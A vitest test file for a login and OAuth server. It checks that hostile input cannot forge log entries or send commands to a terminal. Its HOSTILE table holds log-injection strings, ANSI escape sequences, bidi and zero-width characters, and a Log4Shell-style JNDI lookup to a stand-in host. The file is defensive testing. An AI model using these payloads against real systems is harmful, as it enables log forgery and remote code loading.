import { Writable } from "node:stream";
import { pino } from "pino";
import { beforeEach, describe, expect, test } from "vitest";
import { openForm } from "#tests/http/login/open-form.ts";
import { serverOfFile } from "#tests/support/server.ts";

/** Text that could forge a log line or control a terminal. */
const HOSTILE: Readonly<Record<string, string>> = {
  "a line break": "anna\n2026-03-02 sign-in.succeeded user=root",
  "a carriage return": "anna\r\rsign-in.succeeded",
  "a false line of JSON": 'anna"}\n{"level":30,"event":"sign-in.succeeded","userId":"root"}',
  "a terminal's colour": "\u001b[2J\u001b[31mroot\u001b[0m",
  "a terminal's title": "\u001b]0;owned\u0007",
  "C1 controls": "\u009b31m\u0085root",
  "separators of lines and paragraphs": "anna\u2028root\u2029root",
  "turned writing": "anna\u202etoor\u2066",
  "letters without width": "an\u200bna\ufeff",
  "a backspace": "root\b\b\b\banna",
  "half a letter": "anna\ud800",
  "ten thousand letters": "a".repeat(10_000),
  "marks of a format": `%s%n%x \${jndi:ldap://evil.example/a} {{7*7}}`,
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: the test searches for control characters.
const RAW = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b\ufeff]/;
let line: number;

const server = await serverOfFile();
const party = await server.parties.create();

beforeEach(() => {
  line = server.lines().length;
});

const since = () => server.lines().slice(line);

/** Returns every string in a log line, at any depth. */
function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => [name, ...textsIn(inner)]);
}

/** Expects one plain line per event, as in the log file. */
function expectPlainLines() {
  const written: string[] = [];
  const sink = new Writable({ write: (chunk, _encoding, done) => done(void written.push(String(chunk))) });
  const copy = pino({ base: null }, sink);
  for (const one of since()) copy.info(one);
  for (const text of written) expect(text.trimEnd().split("\n")).toHaveLength(1);
  for (const text of since().flatMap(textsIn)) expect(text).not.toMatch(RAW);
}

describe.each(Object.entries(HOSTILE))("%s", (_what, value) => {
  // Proves requirement 123.
  test("as a user name is not logged", async () => {
    const form = await openForm(server.browser(), party.request().url);
    await form.post({ username: value, password: "x" });
    const [event, ...others] = since().filter((one) => one.event === "sign-in.refused");
    expect(others).toEqual([]);
    expect(event).not.toHaveProperty("username");
    expectPlainLines();
  });

  // Proves requirement 123.
  test("as User-Agent, path or parameter is escaped", async () => {
    const browser = server.browser();
    const form = await openForm(browser, party.request().url);
    // A header cannot contain line breaks, but it can contain single-byte terminal commands.
    const userAgent = value.replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, "?").slice(0, 5_000);
    await form.post({ username: "anna", password: "x" }, { headers: { "user-agent": userAgent } });
    const text = /\p{Surrogate}/u.test(value) ? "half" : value;
    await browser.get(`/nowhere/${encodeURIComponent(text.replaceAll(/[\r\n\u2028\u2029]/g, "-")).slice(0, 5_000)}`);
    for (const changes of [{ client_id: text }, { prompt: text }, { redirect_uri: text }, { scope: text }]) {
      await browser.get(party.request(changes).url);
    }
    await party.post("/oauth2/token", { grant_type: text, code: text });
    await party.exchange(text, party.request(), { client_id: text });
    expectPlainLines();
  });
});

test("a reference is created for each request, and clients cannot choose it", async () => {
  const browser = server.browser();
  const headers = { "x-request-id": "chosen", "request-id": "chosen", traceparent: "chosen" };
  for (let count = 0; count < 20; count += 1) await browser.get("/error", { headers });
  const references = since().map(({ requestId }) => String(requestId));
  expect(new Set(references).size).toBe(20);
  expect(references.every((reference) => /^[0-9a-hjkmnp-tv-z]{4}-[0-9a-hjkmnp-tv-z]{4}$/.test(reference))).toBe(true);
});
